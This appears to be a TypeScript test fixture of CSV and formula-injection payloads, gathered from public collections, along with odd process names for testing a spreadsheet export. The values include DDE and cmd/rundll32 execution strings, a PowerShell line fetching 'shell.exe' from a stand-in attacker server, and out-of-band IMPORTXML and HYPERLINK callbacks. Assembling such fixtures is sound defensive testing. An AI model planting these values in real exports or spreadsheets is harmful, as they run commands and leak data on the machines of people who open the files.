/**
 * Hostile cell values for the spreadsheet test, taken from public collections
 * rather than made up (retrieved 2026-12-01):
 *  - OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection) and
 *    OWASP ASVS 1.2.10 (first characters = + - @ tab NUL; RFC 4180 quoting);
 *  - swisskyrepo/PayloadsAllTheThings, "CSV Injection/README.md";
 *  - payloadbox/csv-injection-payloads, README.md;
 *  - thiem-dev/xssCat, "MyPayloadAll/CSV-payloads.md" (parse breakers,
 *    polyglots, escaped and zero-width variants, Unicode bypasses).
 * Where a collection writes a control character as `\t`, `\n`, `\r`, `\0` or
 * `0x09`/`0x0D`, both the literal text and the real character are included.
 */

const literal: string[] = [
  // PayloadsAllTheThings: DDE, PowerShell, prefix obfuscation, rundll32, NUL padding
  'DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
  "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
  "=         cmd|'/c calc.exe'!A",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
  "=\0\0\0\0C\0\0\0\0m D\0\0\0\0\0|\0\0\0\0'/\0\0\0c\0\0c\0al\0c\0\0.\0e\0x\0e\0'\0!\0A",
  '=IMPORTXML("http://burp.collaborator.net/csv", "//a/@href")',
  // payloadbox
  '=DDE("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  // xssCat: basic, older Excel, rundll32 variants
  "=rundll32|'URL.dll,OpenURL calc'!A",
  "-1-rundll32|'URL.dll,OpenURL calc'!A",
  "=cmd|'/C calc'!A1@example.com",
  "+hack(cmd|'/c calc.exe'!A",
  "=hack/cmd|'/c calc.exe'!A",
  "-2+3+cmd|'/C calc'!A1",
  "-1-cmd|'/C calc'!'A1'",
  "--1-cmd|'/C calc'!'A1'",
  '=EXEC("calc.exe")',
  "=rundll32|'shell32.dll,ShellExec_RunDLL calc'!A1",
  "=rundll32|'shell32.dll,Control_RunDLL timedate.cpl'!A1",
  // xssCat: abnormal variations and parse breakers (quote, `;`, `,` to leave a quoted cell)
  "=cmd|'/c calc'!'a2',",
  "\\t=\\tc\\tm\\td\\t|'/C notepad'!'A2',",
  "=\\ncmd|'/C calc'!A1",
  `"=cmd|'/C calc'!'A1'"`,
  `parsebreaker" ;,=cmd|'/C notepad'!'A1'`,
  `parsebreaker",=cmd|'/C notepad'!'A1''" ;,=cmd|'/C notepad'!'A2'`,
  `=cmd|'/C notepad'!'A1';0x09=cmd|'/C notepad'!'A2',0x0D=cmd|'/C notepad'!'A3';=cmd|'/C notepad'!'A4'=cmd|'/C notepad'!'A5''" ;,=cmd|'/C notepad'!'A6'`,
  `=cmd|'/C notepad'!'A0';=cmd|'/C notepad'!'A1';0x09=cmd|'/C notepad'!'A2';-1-cmd|'/C notepad'!'A3';0x0D-1-cmd|'/C notepad'!'A4';=cmd|'/C notepad'!'A5'=cmd|'/C notepad'!'A6''" ;,=cmd|'/C notepad'!'A7'`,
  // xssCat: escaped or newline payloads
  "\\---1-cmd|'/C calc'!'A1'",
  "\\t--1-cmd|'/C calc'!'A1'",
  `\\"--1-cmd|'/C calc'!'A1'`,
  "\\n--4-cmd|'/C calc'!'A1'",
  "\\r=cmd|' /C calc'!A1",
  "\\0=cmd|' /C calc'!A1",
  `\\r\\",;=cmd|' /C calc'!A1`,
  // xssCat: zero-width markers, links, Unicode bypasses, Excel number logic
  "\u200B=cmd|' /C calc'!A0",
  "\u00A0=cmd|' /C calc'!A1",
  'file:///C:/Windows/System32/calc.exe',
  '+HYPERLINK("file:///C:/Windows/System32/notepad.exe")',
  '@HYPERLINK(CHAR(34)&"file:///C:/Windows/System32/notepad.exe"&CHAR(34))',
  '=HYPERLINK(T("file:///C:/Windows/System32/cmd.exe"), "ClickMe")',
  '=HYPERLINK("http://google.com", "Error: click to fix")',
  '=WEBSERVICE("http://bing.com")',
  '=HYPERLINK(G2,"Click Me")',
  '＝cmd|/C calc!A1',
  '+cmd|/C calc!A1',
  "\uFEFF\t=cmd|'/C calc'!A0",
  "“＝cmd|'/C calc'!A0”",
  "cmd|'/C calc'!A0,?",
  '1e3',
  '+1E+9',
  '-123456',
];

/** The collections' escapes made real: `\t` `\n` `\r` `\0` and `0x09` `0x0D` as the characters. */
const unescaped = literal
  .filter((s) => /\\[tnr0]|0x09|0x0D/.test(s))
  .map((s) =>
    s
      .replace(/\\t|0x09/g, '\t')
      .replace(/\\n/g, '\n')
      .replace(/\\r|0x0D/g, '\r')
      .replace(/\\0/g, '\0')
  );

/** Every hostile value, once. */
export const HOSTILE_VALUES: readonly string[] = [...new Set([...literal, ...unescaped])];

/** Process names a hostile workload can choose (comm is 15 bytes, paths and argv are free). */
export const HOSTILE_PROCESS_NAMES: readonly string[] = [
  '=1+1',
  '@SUM(1;2)',
  'x;=1+1;y',
  'x\t=1+1',
  'a\n=cmd|calc!A0',
  'sh\r-2+3',
  "'=already quoted",
  'kworker/0:1H',
  'данные;=1',
  '名前\t@x',
  'ｃａｌｃ＝１',
  '💥;+1',
  '007',
  '1700000000123456789',
  // Names a spreadsheet would read as something other than text (LibreOffice 7.4, en-US).
  'true',
  'FALSE',
  '12:30',
  '1:2:3',
  '1/2',
  '2023-11-14',
  '50%',
  '(1)',
  '$5',
  '1,000',
  '1.50',
  '1e3',
  '-0',
  '.5',
];
